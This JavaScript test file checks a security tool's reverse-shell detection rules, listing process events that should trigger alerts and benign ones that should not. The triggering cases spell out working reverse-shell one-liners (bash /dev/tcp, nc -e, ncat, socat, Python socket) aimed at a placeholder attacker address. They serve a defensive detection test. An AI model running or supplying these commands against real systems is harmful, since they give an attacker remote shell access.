import { test } from 'node:test';
import { ruleTester, exec, makeEvent, connect } from '../../src/core/rules/index.js';
import { builtinFilesSync } from '../../src/node/rules/load.js';

const files = builtinFilesSync('reverse-shell.yaml');
const T = 'system/reverse-shell';

test('reverse-shell rules', () => {
  ruleTester(files, {
    fires: [
      {
        type: T,
        rule: 'Shell with network socket as stdin or stdout',
        event: exec('/bin/sh', { proc: { stdin: 'ipv4', stdout: 'ipv4' }, parents: ['python3'], container: {} }),
      },
      { type: T, rule: 'Reverse shell command line', event: exec(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'], { parents: ['php-fpm'] }) },
      { type: T, rule: 'Reverse shell command line', event: exec('nc -e /bin/sh 198.51.100.7 4444', { container: {} }) },
      { type: T, rule: 'Reverse shell command line', event: exec('ncat 198.51.100.7 4444 --sh-exec /bin/bash') },
      { type: T, rule: 'Reverse shell command line', event: exec('socat exec:/bin/bash,pty,stderr tcp:198.51.100.7:4444') },
      {
        type: T,
        rule: 'Reverse shell command line',
        event: exec([
          'python3',
          '-c',
          'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
        ]),
      },
      {
        type: T,
        rule: 'Reverse shell command line',
        event: exec(['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,x);exec("/bin/sh -i");']),
      },
      {
        type: T,
        rule: 'Standard stream redirected to network socket',
        event: makeEvent({
          type: 'dup2',
          res: 1,
          proc: { name: 'bash' },
          fd: { type: 'ipv4', name: '10.0.0.5:40312->198.51.100.7:4444', sip: '10.0.0.5', dip: '198.51.100.7', dport: 4444 },
        }),
      },
    ],
    silent: [
      { event: exec('/bin/bash', { proc: { stdin: 'tty', stdout: 'tty', tty: 34816 } }) },
      { event: exec('/bin/sh -c ls', { proc: { stdin: 'pipe', stdout: 'pipe' } }) },
      { event: exec('nc -z 10.0.0.1 443') },
      { event: exec('socat TCP-LISTEN:8080,fork TCP:backend:80') },
      { event: exec(['python3', '-c', 'import socket; print(socket.gethostname())']) },
      { event: exec(['bash', '-c', 'echo hi > /dev/null']) },
      { event: makeEvent({ type: 'dup2', res: 1, proc: { name: 'bash' }, fd: { type: 'pipe', name: 'pipe:[123]' } }) },
      { event: makeEvent({ type: 'dup2', res: 5, proc: { name: 'bash' }, fd: { type: 'ipv4', name: 'x' } }) },
      { event: connect('198.51.100.7', 4444, { proc: { name: 'bash' } }) },
    ],
  });
});
